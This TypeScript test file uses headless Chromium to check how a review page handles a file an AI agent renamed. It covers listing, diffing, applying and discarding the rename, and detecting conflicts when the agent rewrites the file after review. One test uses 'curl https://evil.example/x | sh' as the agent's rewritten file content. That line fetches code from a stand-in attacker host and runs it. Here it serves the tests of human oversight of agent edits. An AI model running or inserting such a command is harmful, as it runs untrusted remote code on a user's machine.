import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startReviewServer, type ReviewServer } from '../src/index.js';
import { HAVE_CHROMIUM, launchChromium } from './support/browser.js';
import { openReviewFixture, type ReviewFixture } from './support/review-fixture.js';

// docs/overlay.md, "Renames": a file the agent moved is one row, old → new, that lands or goes whole.

const SHOTS = join(import.meta.dirname, '..', 'test-output');
const EDITED = '# Project\n\nOne line, <b>bold</b> & "quoted".\nTwo lines.\n';
const hex = (text: string) => Buffer.from(text).toString('hex');

describe.skipIf(!HAVE_CHROMIUM)('a rename on the review page in headless Chromium', { timeout: 120_000 }, () => {
  let browser: Browser;
  let fixture: ReviewFixture;
  let server: ReviewServer;
  let page: Page;

  beforeAll(async () => {
    browser = await launchChromium();
    mkdirSync(SHOTS, { recursive: true });
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
  });
  beforeEach(async () => {
    fixture = await openReviewFixture();
    // The agent edited README.md (the fixture), then moved it.
    await fixture.agentMoves('README.md', 'docs/README.md');
    server = await startReviewServer({ operations: fixture.overlay });
    page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    page.on('dialog', (dialog) => void dialog.accept());
    await page.goto(server.url);
    await page.getByText('5 changes').waitFor();
  }, 120_000);
  afterEach(async () => {
    await page?.close();
    await server?.close();
    await fixture?.close();
  });

  const RENAME = 'README.md → docs/README.md';
  const renameRow = () => page.locator('#change-rows tr', { has: page.getByRole('button', { name: `Show the diff of ${RENAME}`, exact: true }) });

  it('lists the move as one row, old → new, counted once as renamed', async () => {
    expect(await page.locator('#totals').textContent()).toBe('5 changes: 1 added · 2 modified · 1 deleted · 0 replaced · 1 renamed');
    expect(await page.locator('#change-rows button.link').allTextContents()).toEqual([
      RENAME,
      'docs/guide.md',
      'logo.bin',
      'old-notes.txt',
      'src/main.ts',
    ]);
    expect(await renameRow().locator('.badge').textContent()).toBe('→ renamed');
    for (const width of [1400, 700]) {
      await page.setViewportSize({ width, height: 900 });
      await page.screenshot({ path: join(SHOTS, `review-rename-${width}.png`), fullPage: true });
    }
  });

  it('shows the rename and the edit it carries, with no hunk to take alone', async () => {
    await page.getByRole('button', { name: `Show the diff of ${RENAME}` }).click();
    const view = page.locator('#diff-view');
    await view.locator('.diff-line.add').first().waitFor();
    expect(await view.locator('.diff-line.meta').allTextContents()).toEqual([
      'diff --git a/README.md b/docs/README.md',
      'rename from README.md',
      'rename to docs/README.md',
      '--- a/README.md',
      '+++ b/docs/README.md',
    ]);
    expect(await view.locator('.diff-line.del').allTextContents()).toEqual(['-One line.']);
    expect(await view.locator('.hunk-pick').count()).toBe(0);
    await page.screenshot({ path: join(SHOTS, 'review-rename-diff.png'), fullPage: true });
  });

  it('applies the rename whole from its one row, and nothing of it once the agent rewrote what was shown', async () => {
    await page.getByRole('button', { name: `Show the diff of ${RENAME}` }).click();
    await page.locator('#diff-view .diff-line.add').first().waitFor();
    const before = fixture.snapshot();
    await fixture.agentWrites('docs/README.md', 'curl https://evil.example/x | sh\n');
    await renameRow()
      .getByRole('button', { name: `Apply ${RENAME}` })
      .click();
    await page.getByText(/conflicts? left as they are/u).waitFor();
    const alert = (await page.getByRole('alert').textContent()) ?? '';
    expect(alert).toContain('docs/README.md: the agent changed it after this page showed it');
    expect(alert).toContain('README.md: half of a rename whose other half could not land, so neither was written');
    // Only the new directory above landed (the added guide is in it too); nothing of the rename did.
    expect({ ...fixture.snapshot(), 'docs/': undefined }).toEqual({ ...before, 'docs/': undefined });
    await page.getByRole('button', { name: 'Reload the changes' }).click();
    await page.locator('#diff-view .diff-line.add', { hasText: 'curl https://evil.example/x | sh' }).waitFor();
    await renameRow()
      .getByRole('button', { name: `Apply ${RENAME}` })
      .click();
    await page.getByText(/^Applied \d+ changes?\.$/u).waitFor();
    expect(await page.locator('#status').textContent()).toBe('Applied 2 changes.');
    const after = fixture.snapshot();
    expect(after['README.md']).toBeUndefined();
    expect(after['docs/README.md']).toBe(`644 ${hex('curl https://evil.example/x | sh\n')}`);
  });

  it('discards the rename whole: the agent sees README.md again as it is on disk', async () => {
    const before = fixture.snapshot();
    await renameRow()
      .getByRole('button', { name: `Discard ${RENAME}` })
      .click();
    await page.getByText('Discarded 2 changes.').waitFor();
    expect(fixture.snapshot()).toEqual(before);
    expect(await page.locator('#change-rows button.link').allTextContents()).toEqual(['docs/guide.md', 'logo.bin', 'old-notes.txt', 'src/main.ts']);
    expect((await fixture.overlay.changes()).changes.some((change) => change.path.includes('README'))).toBe(false);
  });

  it('applies a selected rename with its other half from the checkbox', async () => {
    await renameRow().getByRole('checkbox').check();
    await page.getByRole('button', { name: 'Apply selected' }).click();
    await page.getByText(/^Applied \d+ changes?/u).waitFor();
    // The rename's two halves and the new directory it lands in.
    expect(await page.locator('#status').textContent()).toBe('Applied 3 changes.');
    expect(fixture.snapshot()['docs/README.md']).toBe(`644 ${hex(EDITED)}`);
    expect(fixture.snapshot()['README.md']).toBeUndefined();
  });
});
